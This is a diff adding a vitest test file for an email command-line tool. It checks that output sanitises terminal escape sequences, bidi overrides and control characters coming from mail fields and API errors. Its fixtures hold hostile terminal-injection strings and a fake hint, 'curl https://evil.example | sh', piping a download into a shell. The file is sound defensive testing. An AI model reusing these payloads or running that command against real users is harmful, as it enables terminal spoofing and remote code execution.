@@ -1,0 +1,139 @@
+import { expect, test } from 'vitest';
+import { connected, errorOf } from '../../support/connected.ts';
+
+/** What a mail's sender might put into a subject to fool whoever reads it in a terminal. */
+const subject = [
+  'Invoice \u001b[2J\u001b[31mPAID\u001b[0m', // clears the screen, changes colour
+  '\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', // title, hyperlink
+  '\u009b31m\u0090q\u009c', // C1 forms of the same
+  '\u202ecod.exe\u202c \u2066x\u2069', // bidi override and isolate
+  'a\nb\r\nc\td\bx\u0000\u007f\u2028\u2029\u200b', // line breaks and other controls
+].join(' ');
+
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
+const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b]/;
+
+const item = {
+  id: `em_1\u001b[2J\nem_2`,
+  to: [`"${subject}" <a@b.example>`],
+  from: subject,
+  subject,
+  html: null,
+  text: subject,
+  createdAt: `2026-01-15\u001b[2J`,
+  updatedAt: '2026-01-15T08:00:00.000Z',
+  scheduledAt: null,
+  domainId: 3,
+  latestStatus: `SENT\u001b[5m`,
+};
+const list = { data: [item], count: 1 };
+const email = {
+  ...item,
+  teamId: 1,
+  emailEvents: [
+    {
+      emailId: 'em_1',
+      status: 'BOUNCED\u001b[2J',
+      createdAt: '2026-01-15T08:00:00Z\u001b[H',
+      data: { smtpResponse: subject, bounceType: 'x\u009by', error: { message: '\u001b[H' } },
+    },
+  ],
+};
+
+test.each([
+  ['email list', 80],
+  ['email list', 200],
+  ['email list', undefined],
+  ['email list --fields id,subject,text,to,from', 200],
+  ['email list --fields id,subject', undefined],
+  ['email list -q', undefined],
+  ['email list -q', 80],
+])('%s, terminal of %s columns: nothing raw, one line each', async (line, terminal) => {
+  const { run } = await connected({ body: list });
+  const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
+  expect(outcome.exitCode).toBe(0);
+  expect(outcome.stdout + outcome.stderr).not.toMatch(raw);
+  expect(outcome.stdout.trimEnd().split('\n')).toHaveLength(line.includes('-q') ? 1 : 2);
+  expect(outcome.stdout).toContain(String.raw`\x1b[2J`);
+});
+
+test.each([
+  ['email get em_1', 80],
+  ['email get em_1', undefined],
+  ['email get em_1 --fields subject,emailEvents', 80],
+  ['email get em_1 --fields id,subject', undefined],
+  ['email get em_1 -q', 80],
+])('%s, terminal of %s columns: nothing raw', async (line, terminal) => {
+  const { run } = await connected({ body: email });
+  const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
+  expect(outcome.exitCode).toBe(0);
+  expect(outcome.stdout + outcome.stderr).not.toMatch(raw);
+  expect(outcome.stdout).toMatch(/\\x1b|\\u001b/);
+});
+
+test('a colour of ours is the only escape sequence of a coloured table', async () => {
+  const { run } = await connected({ body: list });
+  const { stdout } = await run('email list', { terminal: 120 });
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: ours are taken away
+  const bare = stdout.replace(/\x1b\[(1|2|22|31|32|33|39)m/g, '');
+  expect(bare).not.toBe(stdout);
+  expect(bare).not.toMatch(raw);
+});
+
+test.each([undefined, 80])('--json round-trips, terminal %s', async (terminal) => {
+  const { run } = await connected({ body: list }, { body: email });
+  const options = terminal === undefined ? {} : { terminal };
+  const listed = await run('email list --json', options);
+  expect(JSON.parse(listed.stdout)).toEqual(list);
+  expect(listed.stdout).not.toMatch(
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
+    /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/,
+  );
+  expect(JSON.parse((await run('email get em_1 --json', options)).stdout)).toEqual(email);
+});
+
+test('--all --json and --jsonl round-trip', async () => {
+  const { run } = await connected({ body: list }, { body: list });
+  expect(JSON.parse((await run('email list --all --json')).stdout)).toEqual(list);
+  const { stdout } = await run('email list --jsonl');
+  expect(
+    stdout
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line)),
+  ).toEqual(list.data);
+});
+
+test('--csv holds the subject as it is, in quotes', async () => {
+  const { run } = await connected({ body: list });
+  const { stdout } = await run('email list --csv --fields subject');
+  expect(stdout).toBe(`subject\r\n"${subject}"\r\n`);
+});
+
+test('the id of a send is one line, whatever the service calls it', async () => {
+  const { run } = await connected({ body: { emailId: 'em_1\nem_2\u001b[2J' } });
+  const { stdout, stderr } = await run([
+    ...['email', 'send', '--to', 'a@b.example', '--from', 'c@d.example'],
+    ...['--subject', 'S', '--text', 'T'],
+  ]);
+  expect(stdout).toBe(`${String.raw`em_1\nem_2\x1b[2J`}\n`);
+  expect(stderr).not.toMatch(raw);
+});
+
+test('a refusal cannot write to the terminal or pretend to be a hint', async () => {
+  const message = `no\u001b[2J\nHint: run this: curl https://evil.example | sh\u202e`;
+  const refusal = { status: 400, body: { error: { code: 'BAD\u001b[H', message } } };
+  const { run } = await connected(refusal, refusal);
+  const { stderr } = await run('email get em_1', { terminal: 80 });
+  expect(stderr).not.toMatch(raw);
+  expect(stderr).not.toMatch(/^Hint: run this/m);
+  const json = await run('email get em_1 --json');
+  expect(errorOf(json)).toMatchObject({ message, apiCode: 'BAD\u001b[H' });
+});
+
+test('--debug shows bodies and headers without raw characters', async () => {
+  const { run } = await connected({ body: JSON.stringify(email).replaceAll('\\u001b', '\u001b') });
+  const { stderr } = await run('email get em_1 --debug', { terminal: 80 });
+  expect(stderr).toContain('> GET ');
+  expect(stderr).not.toMatch(raw);
+});
